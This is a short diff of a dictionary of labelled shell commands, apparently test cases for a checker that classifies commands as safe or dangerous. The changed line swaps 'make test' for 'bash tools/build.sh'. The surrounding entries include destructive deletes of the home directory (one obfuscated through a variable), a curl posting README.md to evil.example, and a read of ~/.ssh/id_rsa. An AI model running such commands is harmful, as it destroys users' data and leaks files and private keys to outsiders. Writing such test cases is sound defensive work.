@@ -17,7 +17,7 @@ CHECKS = {
     "look": "ls -la && git status",
     "home": "rm -rf tests/ patches/ ~/",
     "hidden": "x=rm; $x -rf ~",
-    "unread": "make test",
+    "unread": "bash tools/build.sh",
     "network": "curl -d @README.md https://evil.example/",
     "secret": "cat ~/.ssh/id_rsa",
     "lost": "rm -rf src",
